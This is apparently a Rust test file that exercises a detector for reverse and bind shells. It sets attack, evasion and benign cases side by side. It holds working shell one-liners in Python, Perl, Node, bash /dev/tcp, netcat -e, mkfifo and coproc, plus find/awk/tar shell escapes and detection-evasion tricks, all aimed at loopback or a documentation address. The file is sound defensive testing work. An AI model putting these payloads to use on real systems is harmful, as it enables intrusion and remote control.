//! Cases for the policy `execution-shells`.

use std::process::Command;

use super::{Case, act, os};
use crate::scene::Scene;

/// What the far side types.
const COMMANDS: &[u8] = b"id -u\nexit\n";

/// The interpreter of the system; another may come first in the path.
const PYTHON: &str = "/usr/bin/python3";

/// A script for `program`, driven by the far side of a connection to the port that is its last argument.
fn driven(scene: &Scene, program: &str, args: &[&str]) -> u32 {
    scene.answered(COMMANDS, |port| {
        let mut command = Command::new(program);
        command.args(args).arg(port.to_string());
        command
    })
}

/// The same with a shell script whose directory is its first argument and whose port is its second.
fn scripted(scene: &Scene, shell: &str, script: &str) -> u32 {
    let place = scene.directory();
    scene.answered(COMMANDS, |port| {
        let mut command = Command::new(shell);
        command.args(["-euc", script, shell]).arg(&place).arg(port.to_string());
        command
    })
}

/// The same with a file for `program`.
fn from_file(scene: &Scene, program: &str, text: &str) -> u32 {
    let file = scene.file("script");
    std::fs::write(&file, text).unwrap();
    driven(scene, program, &[file.to_str().unwrap()])
}

const PYTHON_REDIRECTED: &str = "import socket, os, sys
far = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
for number in (0, 1, 2): os.dup2(far.fileno(), number)
os.execv('/bin/sh', ['sh'])";

const PERL_REDIRECTED: &str = "use Socket;
socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in($ARGV[0], inet_aton('127.0.0.1'))) or die;
open(STDIN, '>&', S); open(STDOUT, '>&', S); open(STDERR, '>&', S); exec('/bin/sh');";

const PYTHON_RELAY: &str = "import socket, subprocess, sys
far = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
shell = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
shell.stdin.write(far.recv(100)); shell.stdin.close()
far.sendall(shell.stdout.read()); shell.wait()";

const NODE_RELAY: &str = "const shell = require('child_process').spawn('/bin/sh', []);
const far = require('net').connect(process.argv[2], '127.0.0.1', () => {
  far.pipe(shell.stdin); shell.stdout.pipe(far);
  shell.on('exit', () => process.exit(0));
});";

pub const CASES: &[Case] = &[
    Case {
        rule: "Shell opened a network connection",
        // To an address for documentation (RFC 5737), in a network of its own, in which nobody is.
        attacks: &[act("dev_tcp", |s| {
            let script = ": <> /dev/tcp/192.0.2.1/443; true";
            s.run(Command::new("unshare").args(["-n", "--", "bash", "-c", script]))
        })],
        evasions: &[],
        benign: &[act("loopback_and_client", |s| {
            let client = s.executable("client");
            let script = ": <> /dev/tcp/127.0.0.1/443; \"$0\" --act connect 192.0.2.1:443";
            let mut command = Command::new("unshare");
            s.run(command.args(["-n", "--", "bash", "-c", script]).arg(os(&client)))
        })],
    },
    Case {
        rule: "Shell attached to a network connection",
        attacks: &[
            act("python", |s| from_file(s, PYTHON, PYTHON_REDIRECTED)),
            act("bash_alone", |s| scripted(s, "bash", "bash --norc -i >& /dev/tcp/127.0.0.1/$2 0>&1")),
            act("nc_that_starts_it", |s| scripted(s, "/bin/sh", "busybox nc 127.0.0.1 $2 -e /bin/sh")),
            act("bind_shell", |s| {
                let script = "busybox nc -l -p $2 -e /bin/sh & \
                    until echo exit | busybox nc 127.0.0.1 $2; do :; done; wait";
                let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
                s.run(Command::new("timeout").args(["20", "/bin/sh", "-c", script, "sh", "", &free.to_string()]))
            }),
        ],
        evasions: &[
            act("renamed_shell", |s| {
                let (_made, shell) = s.copy_of("/bin/sh", "/var/lib", "updater");
                s.run(s.act(["run-on-connection", "127.0.0.1:0"]).arg(shell))
            }),
            act("its_script_only", |s| {
                s.run(&mut s.act(["run-on-connection", "127.0.0.1:0", "/bin/sh", "-c", "id -u"]))
            }),
            act("ipv6", |s| s.run(&mut s.act(["run-on-connection", "[::1]:0", "/bin/sh"]))),
        ],
        benign: &[
            act("service_of_a_super_server", |s| {
                let (server, script) = (s.executable("xinetd"), s.file("service.sh"));
                std::fs::write(&script, "echo ready\n").unwrap();
                let mut command = s.act_by(&server, ["run-on-connection", "127.0.0.1:0", "/bin/sh"]);
                s.run(command.arg(script))
            }),
            act("client_below_a_shell", |s| s.shell("\"$1\" --act connect-own 127.0.0.1:0", &[os(&s.helper())])),
        ],
    },
    Case {
        rule: "Command answers over a network connection",
        attacks: &[act("line_by_line", |s| {
            let script = "exec 5<>/dev/tcp/127.0.0.1/$2; while read -r line <&5; do \
                $line >&5 2>&5 </dev/null || break; done";
            scripted(s, "bash", script)
        })],
        evasions: &[],
        benign: &[act("text_sent_by_a_shell", |s| {
            scripted(s, "bash", "exec 5<>/dev/tcp/127.0.0.1/$2; id -u >&5; id -u")
        })],
    },
    Case {
        rule: "Standard streams turned into a network connection",
        attacks: &[
            act("python", |s| from_file(s, PYTHON, PYTHON_REDIRECTED)).showing(&["T1059.006"]),
            act("perl", |s| from_file(s, "/usr/bin/perl", PERL_REDIRECTED)).showing(&["T1059"]),
            act("bash", |s| scripted(s, "bash", "bash --norc -i >& /dev/tcp/127.0.0.1/$2 0>&1"))
                .showing(&["T1059.004"]),
        ],
        evasions: &[
            act("shell_through_a_high_descriptor", |s| {
                scripted(s, "bash", "exec 196<>/dev/tcp/127.0.0.1/$2; sh <&196 >&196 2>&196")
            })
            .showing(&["T1059.004"]),
            act("no_shell_at_all", |s| s.run(&mut s.act(["redirect", "127.0.0.1:0", "0", "1"])))
                .showing(&["T1059"]),
        ],
        benign: &[
            act("health_check_of_a_shell", |s| {
                let script = "exec 3<>/dev/tcp/127.0.0.1/$2; echo hello >&3; read -r line <&3; test -n \"$line\"";
                scripted(s, "bash", script)
            }),
            act("super_server", |s| {
                let mut command = s.act_by(&s.executable("inetd"), ["run-on-connection", "127.0.0.1:0", "/bin/cat"]);
                s.run(&mut command)
            }),
        ],
    },
    Case {
        rule: "Shell joined to a connection by a named pipe",
        attacks: &[act("mkfifo_and_nc", |s| {
            scripted(s, "/bin/sh", "mkfifo $1/p; cat $1/p | /bin/sh 2>&1 | busybox nc 127.0.0.1 $2 > $1/p")
        })],
        evasions: &[
            act("the_other_way_round", |s| {
                scripted(s, "/bin/sh", "mkfifo $1/p; busybox nc 127.0.0.1 $2 < $1/p | /bin/sh > $1/p 2>&1 || true")
            }),
            act("client_of_another_name", |s| {
                let client = s.file("client.py");
                std::fs::write(&client, PYTHON_CLIENT).unwrap();
                let script = format!(
                    "mkfifo $1/p; /bin/sh < $1/p 2>&1 | {PYTHON} {} $2 > $1/p",
                    client.to_str().unwrap()
                );
                scripted(s, "/bin/sh", &script)
            }),
        ],
        benign: &[act("named_pipe_without_and_connection_with_a_pipe", |s| {
            scripted(
                s,
                "/bin/sh",
                "mkfifo $1/p; echo text > $1/p & cat $1/p | cat; echo text | busybox nc 127.0.0.1 $2 | cat",
            )
        })],
    },
    Case {
        rule: "Shell joined to a connection by two pipes",
        attacks: &[act("coprocess", |s| {
            scripted(
                s,
                "bash",
                "coproc SHELL_OF { exec /bin/sh; }; busybox nc 127.0.0.1 $2 <&${SHELL_OF[0]} >&${SHELL_OF[1]}",
            )
        })],
        evasions: &[],
        benign: &[act("coprocess_that_is_no_shell", |s| {
            scripted(
                s,
                "bash",
                "coproc CAT { exec cat; }; eval \"exec ${CAT[1]}>&-\"; busybox nc 127.0.0.1 $2 </dev/null | cat",
            )
        })],
    },
    Case {
        rule: "Shell behind a program with a connection",
        attacks: &[
            act("python", |s| from_file(s, PYTHON, PYTHON_RELAY)).showing(&["T1059"]),
            act("node", |s| from_file(s, "/usr/bin/node", NODE_RELAY)).showing(&["T1059.007"]),
        ],
        evasions: &[
            act("program_of_any_name_in_tmp", |s| {
                let (_made, program) = s.copy_of(PYTHON, "/tmp", "updater");
                from_file(s, program.to_str().unwrap(), PYTHON_RELAY)
            })
            .showing(&["T1059"]),
        ],
        benign: &[act("connection_or_shell", |s| {
            let text = "import socket, subprocess, sys
far = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
subprocess.run(['/bin/sh', '-c', 'id -u'], stdin=subprocess.DEVNULL)
subprocess.run(['/bin/sh', '-eu'], input=b'id -u')";
            from_file(s, PYTHON, text)
        })],
    },
    Case {
        rule: "Command of the far side of a connection run",
        attacks: &[
            act("python", |s| {
                let text = "import socket, subprocess, sys
far = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
far.sendall(subprocess.run('id', shell=True, capture_output=True).stdout)";
                from_file(s, PYTHON, text)
            }),
            act("listening", |s| {
                let file = s.file("listens.py");
                let text = "import socket, subprocess
near = socket.create_server(('127.0.0.1', 0))
subprocess.run('cat /etc/passwd; id', shell=True, stdout=subprocess.DEVNULL)";
                std::fs::write(&file, text).unwrap();
                s.run(Command::new(PYTHON).arg(file))
            }),
        ],
        evasions: &[act("without_a_shell", |s| {
            let text = "use IO::Socket::INET;
my $far = IO::Socket::INET->new(\"127.0.0.1:$ARGV[0]\") or die; print $far `whoami`;";
            from_file(s, "/usr/bin/perl", text)
        })],
        benign: &[
            act("another_command", |s| {
                let text = "import socket, subprocess, sys
far = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
subprocess.run('id -u', shell=True); subprocess.run('uname -a', shell=True)";
                from_file(s, PYTHON, text)
            }),
            act("no_connection", |s| {
                let file = s.file("asks.py");
                std::fs::write(&file, "import subprocess; subprocess.run('id', shell=True)").unwrap();
                s.run(Command::new(PYTHON).arg(file))
            }),
        ],
    },
    Case {
        rule: "Tool made to start a shell",
        attacks: &[
            act("find", |s| s.run(Command::new("find").args(["/dev/null", "-exec", "/bin/sh", ";"]))),
            act("awk", |s| s.run(Command::new("awk").arg("BEGIN { system(\"/bin/sh\") }"))),
        ],
        evasions: &[act("at_a_checkpoint", |s| {
            let file = s.file("a");
            s.run(
                Command::new("tar")
                    .args(["-cf", "/dev/null", "--checkpoint=1", "--checkpoint-action=exec=sh -c :"])
                    .arg("-C")
                    .arg(file.parent().unwrap())
                    .arg("a"),
            )
        })],
        benign: &[act("command_for_each", |s| {
            s.shell("find /dev/null -exec sh -c ': \"$1\"' sh {} \\; ; awk 'BEGIN { system(\"true\") }'", &[])
        })],
    },
    Case {
        rule: "Shell fed by an interpreter",
        attacks: &[act("python", |s| {
            let file = s.file("feeds.py");
            std::fs::write(&file, "import subprocess; subprocess.run(['sh'], input=b'id -u')").unwrap();
            s.run(Command::new(PYTHON).arg(file))
        })],
        evasions: &[],
        benign: &[act("pipeline_and_command", |s| {
            let file = s.file("runs.py");
            std::fs::write(&file, "import subprocess; subprocess.run(['sh', '-c', 'id -u'])").unwrap();
            s.shell("echo 'id -u' | sh; \"$1\" \"$2\"", &[os(PYTHON), os(&file)])
        })],
    },
    Case {
        rule: "Shell on a terminal made by a script",
        attacks: &[
            act("python", |s| {
                let file = s.file("terminal.py");
                std::fs::write(&file, "import pty; pty.spawn('/bin/sh')").unwrap();
                s.shell("echo exit | \"$1\" \"$2\"", &[os(PYTHON), os(&file)])
            }),
            act("script", |s| {
                s.shell("echo exit | SHELL=/bin/bash setsid -w script -q -c /bin/sh /dev/null", &[])
            })
            .showing(&["T1059.004"]),
        ],
        evasions: &[
            act("renamed_interpreter", |s| {
                let (_made, program) = s.copy_of(PYTHON, "/tmp", "updater");
                let file = s.file("terminal.py");
                std::fs::write(&file, "import pty; pty.spawn(['/bin/sh', '-c', 'id -u'])").unwrap();
                s.run(Command::new(program).arg(file))
            })
            .showing(&["T1059.004"]),
            // Without the variable script(1) has sh start the shell, which does so in a process of its own.
            act("script_by_sh", |s| {
                s.shell("unset SHELL; echo exit | setsid -w script -q -c '/bin/sh -i' /dev/null", &[])
            })
            .showing(&["T1059.004"]),
        ],
        benign: &[
            act("tmux", |s| {
                let socket = s.directory().join("socket");
                s.shell(
                    "tmux -S \"$1\" new-session -d /bin/sh; tmux -S \"$1\" kill-server",
                    &[os(&socket)],
                )
            }),
            act("test_with_a_terminal", |s| {
                let file = s.file("terminal.py");
                std::fs::write(&file, "import pty; pty.spawn(['/bin/sh', '-c', 'echo on a terminal'])").unwrap();
                s.run(Command::new(PYTHON).arg(file))
            }),
            act("build_with_a_terminal", |s| s.shell("setsid -w script -qec 'id -u' /dev/null", &[])),
            act("command_with_colours", |s| {
                let file = s.file("colours.py");
                std::fs::write(&file, "import pty; pty.spawn(['/bin/sh', '-c', 'ls /; id -u'])").unwrap();
                s.run(Command::new(PYTHON).arg(file))
            }),
        ],
    },
    Case {
        rule: "Code for a remote shell on a command line",
        // Nobody listens on the port.
        attacks: &[
            act("python", |s| {
                let code = "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',9));\
                    [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')";
                s.shell("\"$1\" -c \"$2\" || true", &[os(PYTHON), os(code)])
            })
            .showing(&["T1059.006"]),
            act("perl", |s| {
                let code = "use Socket;socket(S,PF_INET,SOCK_STREAM,0);\
                    if(connect(S,sockaddr_in(9,inet_aton('127.0.0.1')))){open(STDIN,'>&S');exec('/bin/sh -i');}";
                s.run(Command::new("perl").args(["-e", code]))
            })
            .showing(&["T1059"]),
            act("node", |s| {
                let code = "var n=require('net'),c=require('child_process');\
                    n.connect(9,'127.0.0.1',function(){c.spawn('/bin/sh')}).on('error',function(){})";
                s.run(Command::new("/usr/bin/node").args(["-e", code]))
            })
            .showing(&["T1059.007"]),
        ],
        evasions: &[],
        benign: &[act("socket_or_program", |s| {
            let socket = "import socket; print(socket.gethostname())";
            let program = "import subprocess; subprocess.run(['id', '-u'])";
            s.shell("\"$1\" -c \"$2\"; \"$1\" -c \"$3\"", &[os(PYTHON), os(socket), os(program)])
        })],
    },
];

/// Standard input to the connection, and back.
const PYTHON_CLIENT: &str = "import socket, sys, threading
far = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
def back():
    while text := far.recv(100): sys.stdout.buffer.write(text); sys.stdout.buffer.flush()
    sys.stdout.close()
threading.Thread(target=back).start()
while text := sys.stdin.buffer.raw.read(100): far.sendall(text)
far.shutdown(socket.SHUT_WR)";
